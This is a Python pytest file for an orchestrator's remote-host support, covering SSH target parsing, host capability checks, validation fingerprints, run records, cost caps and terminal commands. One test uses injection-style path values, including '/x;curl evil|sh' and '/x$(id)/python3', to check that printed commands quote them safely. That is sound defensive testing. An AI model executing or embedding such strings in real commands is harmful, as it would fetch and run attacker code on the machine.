"""How hosts are named, judged and remembered, and what a run on one may cost: no I/O."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.core.config.load import load
from orchestrator.core.errors import ConfigError
from orchestrator.core.hosts import (
    HostNeeds,
    HostRecord,
    HostRun,
    HostTarget,
    first_lack,
    gpu_for,
    host_fingerprint,
    is_host,
    lacks_packages,
    parse_target,
    record_object,
    through_iap,
    to_host,
    why_validate,
    with_run,
)
from orchestrator.core.ledger.budget import Caps, Ledger
from orchestrator.core.plan.offered import PlanRefused
from orchestrator.core.plan.plan import LaunchPlan, run_spec
from orchestrator.core.plan.resumption import plan_on_hosts
from tests.integration.stories.stage import GRIDS

NOW = datetime(2026, 11, 21, 4, tzinfo=UTC)
CARD = {
    "name": "NVIDIA L4",
    "uuid_sha256": "ab" * 32,
    "driver": "580.95",
    "compute_capability": "8.9",
    "memory_mib": "1",
}
ALL = HostNeeds(cuda=True, compiler=True, min_free_gb=4)


def probe(**changes: Any) -> dict[str, Any]:
    """What a host that will do says of itself."""
    return {
        "platform": "linux", "python": "3.11.7", "executable": "/usr/bin/python3", "os": "Debian", "cache": "/c",
        "free_gb": 100.0, "compiler": "g++ 12", "missing": [], "busy": "", "gpus": [CARD], "no_gpu": "", **changes,
    }  # fmt: skip


def found(**changes: Any) -> dict[str, Any]:
    return {"torch": "2.13.0", "numpy": "2", "cuda": "13.0", "usable": True, "error": "", "compiles": "", **changes}


@pytest.mark.parametrize(
    ("text", "user", "name", "port"),
    [
        ("box", "", "box", None),
        ("me@box", "me", "box", None),
        ("me@box.example.org:2222", "me", "box.example.org", 2222),
        ("192.0.2.7:22", "", "192.0.2.7", 22),
        ("[2001:db8::1]", "", "2001:db8::1", None),
        ("me@[2001:db8::1]:2222", "me", "2001:db8::1", 2222),
    ],
)
def test_a_target_is_read_and_written_the_same(text: str, user: str, name: str, port: int | None) -> None:
    target = parse_target(text)
    assert (target.user, target.name, target.port) == (user, name, port)
    assert str(target) == text


@pytest.mark.parametrize("text", ["", "@", "a b", "box:", "box:0", "box:65536", "-x", "-u@box", "[::1", "a@b@c"])
def test_what_is_no_target_is_refused(text: str) -> None:
    with pytest.raises(ConfigError, match="is not a host"):
        parse_target(text)


@given(st.text(alphabet="abcXYZ019.-_", min_size=1).filter(lambda name: not name.startswith("-")))
def test_a_zone_is_a_label_that_is_no_clouds(name: str) -> None:
    zone = parse_target(name).zone
    assert is_host(zone)
    assert len(zone) <= 40
    assert set(zone) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    assert record_object(zone) == f"hosts/{zone}.json"


def test_different_targets_are_different_zones_and_no_cloud_has_such() -> None:
    texts = ("box", "me@box", "box:22", "BOX", "bo.x")
    assert len({parse_target(text).zone for text in texts}) == len(texts)
    assert not is_host("us-central1-a")


def test_a_host_that_has_everything_lacks_nothing() -> None:
    assert first_lack(probe(), ALL, "box") is None
    assert lacks_packages(found(), ALL, "box", "python3", "2.13.0") is None
    assert first_lack(probe(gpus=[], compiler=""), HostNeeds(cuda=False, compiler=False, min_free_gb=0), "box") is None


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        ({"platform": "darwin"}, "no_linux"),
        ({"python": "3.9.2"}, "python_too_old"),
        ({"missing": ["curl"]}, "no_tools"),
        ({"free_gb": 3.9}, "disk_full"),
        ({"gpus": [], "no_gpu": "nvidia-smi: not found"}, "no_cuda"),
        ({"compiler": ""}, "no_compiler"),
    ],
)
def test_what_a_host_lacks_is_named_with_its_remedy(change: dict[str, Any], kind: str) -> None:
    lack = first_lack(probe(**change), ALL, "box")
    assert lack.kind == kind
    assert "box" in lack.what
    assert lack.remedy


def test_a_host_with_fewer_gpus_than_a_program_needs_is_refused() -> None:
    needs = HostNeeds(cuda=True, compiler=False, min_free_gb=0, gpus=2)
    lack = first_lack(probe(), needs, "box")
    assert (lack.kind, lack.what) == ("no_cuda", "box has 1 of the 2 GPUs that the program needs")
    assert first_lack(probe(gpus=probe()["gpus"] * 2), needs, "box") is None


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        ({"torch": "", "error": "ModuleNotFoundError"}, "torch_missing"),
        ({"error": "no numpy"}, "numpy_mismatch"),
        ({"usable": False, "cuda": ""}, "torch_without_cuda"),
        ({"usable": False}, "torch_without_cuda"),
        ({"compiles": "no such file"}, "no_compiler"),
    ],
)
def test_what_only_trying_can_tell_is_named_with_its_remedy(change: dict[str, Any], kind: str) -> None:
    lack = lacks_packages(found(**change), ALL, "box", "python3", "2.13.0")
    assert lack.kind == kind
    assert lack.remedy


@pytest.mark.parametrize("python", ["/opt/py/bin/python3", "/opt/my py/python3", "/x;curl evil|sh", "/x$(id)/python3"])
def test_a_path_that_a_host_told_is_one_word_of_the_command_that_is_printed(python: str) -> None:
    lack = lacks_packages(found(torch="", pythons=[python]), ALL, "box", "python3", "2.13.0")
    command = lack.remedy.partition("so name it: ")[2]
    assert shlex.split(command) == ["--set", f"host.python={python}"]


def test_a_host_that_may_have_the_newest_torch_is_told_to_install_that() -> None:
    lack = lacks_packages(found(torch=""), ALL, "box", "python3", "")
    assert "pip install torch numpy;" in lack.remedy


def test_a_validation_holds_for_two_days_and_for_the_machine_it_was_made_on() -> None:
    is_now = host_fingerprint(probe())
    record = HostRecord(target="box", validated_at=NOW, fingerprint=is_now)
    assert why_validate(None, is_now, NOW) == "it was never validated"
    assert why_validate(HostRecord(target="box"), is_now, NOW) == "it was never validated"
    assert why_validate(record, is_now, NOW + timedelta(hours=48)) == ""
    assert "49 hours ago" in why_validate(record, is_now, NOW + timedelta(hours=49))
    assert why_validate(record, is_now, NOW - timedelta(hours=49))
    for change, said in (
        ({"gpus": [{**CARD, "uuid_sha256": "cd" * 32}]}, "its gpu changed"),
        ({"gpus": [{**CARD, "driver": "590.1"}]}, "its driver changed"),
        ({"compiler": "g++ 13"}, "its compiler changed"),
        ({"python": "3.12.1"}, "its python changed"),
        ({"os": "Debian 13", "compiler": ""}, "its compiler, os changed"),
    ):
        assert why_validate(record, host_fingerprint(probe(**change)), NOW) == said


def test_a_fingerprint_holds_no_serial_number() -> None:
    assert "ab" * 32 not in str(host_fingerprint(probe()))


@pytest.mark.parametrize(
    ("capability", "gpu"),
    [("7.0", "t4"), ("7.5", "t4"), ("8.0", "a100"), ("8.6", "a100"), ("8.9", "l4"), ("9.0", "h100"), ("10.0", "b200"),
     ("12.0", "g4"), ("[N/A]", "t4")],
)  # fmt: skip
def test_a_host_is_asked_for_what_its_gpu_can_do(capability: str, gpu: str) -> None:
    assert gpu_for(probe(gpus=[{**CARD, "compute_capability": capability}])) == gpu
    assert gpu_for(probe(gpus=[])) == "cpu"


def run(ended: datetime | None = None, *, removed: bool = False) -> HostRun:
    return HostRun(run_id="20261121-040506-cpu-7f3a", created_at=NOW, deadline_at=NOW, ended_at=ended, removed=removed)


def test_a_record_forgets_what_ended_long_ago_and_never_what_may_still_be_there() -> None:
    later = NOW + timedelta(days=31)
    record = HostRecord(target="box", runs={"open": run(), "home": run(NOW), "old": run(NOW, removed=True)})
    record = with_run(record, "new", run(later, removed=True), later)
    assert set(record.runs) == {"open", "home", "new"}
    assert set(record.open_runs()) == {"open", "home"}


def planned(*overrides: str, caps: Caps | None = None) -> LaunchPlan | PlanRefused:
    config = load("gpu: cpu", source="test", overrides=("host.targets=[box]", *overrides), grids=GRIDS)
    (target,) = [parse_target(text) for text in config.host.targets]
    return plan_on_hosts(
        config, config_name="test", target=target, ledger=Ledger(), caps=caps or Caps(), now=NOW, notices=("noted",)
    )


def test_a_machine_of_ones_own_costs_nothing_unless_it_is_said_to() -> None:
    plan = planned("measure.grid=cpu")
    assert isinstance(plan, LaunchPlan)
    assert (plan.ceiling_usd, plan.label, plan.mode, plan.notices[0]) == (Decimal(0), "host", "host", "noted")
    dear = planned("host.hourly_usd=2", "run.max_minutes=30", "run.attempts=2", caps=Caps(run=Decimal(5)))
    # Two machines of 1,830 s each, the deadline's slack among them: 2 x 1830 / 3600 x $2.
    assert dear.ceiling_usd == Decimal("2.033334")
    assert dear.headroom == {"run": Decimal(5) - dear.ceiling_usd}


def test_what_a_host_costs_is_refused_by_the_same_caps() -> None:
    refused = planned("host.hourly_usd=2", caps=Caps(run=Decimal("0.01")))
    assert refused.kind == "budget"


def test_nothing_is_installed_on_a_host() -> None:
    plan = planned("environment.allow_install=true")
    assert isinstance(plan, LaunchPlan)
    spec = run_spec(plan, run_id="r", attempt=1, bucket="b", require_cuda=False)
    assert spec["environment"]["allow_install"] is False


def test_an_element_type_that_the_device_has_not_is_left_out_and_said_so() -> None:
    grid = "measure.grid={shapes: [{batch: 1, heads: 1, seq: 8, head_dim: 64}], dtypes: [float16, float32]}"
    plan = planned(grid)
    assert "cpu has no float16 arithmetic: left out" in plan.notices
    assert len(plan.cases) == 1


# The command that opens a terminal: what it is for a host, and for a rented machine.


def test_a_host_is_reached_as_it_was_named() -> None:
    assert to_host(HostTarget("ada", "box", 2222)) == ("ssh", "-t", "-p", "2222", "--", "ada@box")
    assert to_host(HostTarget("", "alias", None)) == ("ssh", "-t", "--", "alias")


def test_a_rented_machine_is_reached_through_a_tunnel_by_name_zone_and_project() -> None:
    assert through_iap("vm-1", "us-central1-a", "p") == (
        "gcloud", "compute", "ssh", "vm-1", "--zone", "us-central1-a", "--project", "p", "--tunnel-through-iap",
    )  # fmt: skip


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), min_size=1, max_size=4))
def test_a_command_arrives_word_for_word(command: list[str]) -> None:
    assert shlex.split(to_host(HostTarget("", "box", None), command)[-1]) == command
    *_, flag, word = through_iap("vm", "z", "p", command)
    assert (flag, shlex.split(word)) == ("--command", command)
